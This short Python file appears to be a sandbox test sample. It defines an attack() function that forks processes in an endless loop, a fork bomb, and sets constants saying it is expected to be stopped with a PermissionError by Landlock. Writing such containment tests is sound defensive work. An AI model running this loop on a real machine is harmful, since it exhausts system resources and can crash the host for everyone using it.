"""Start as many processes as the machine has room for."""

import os

STATUS, REASON, STOPPED_FROM = "raised", "PermissionError", "landlock"


def attack() -> None:
    while True:
        os.fork()
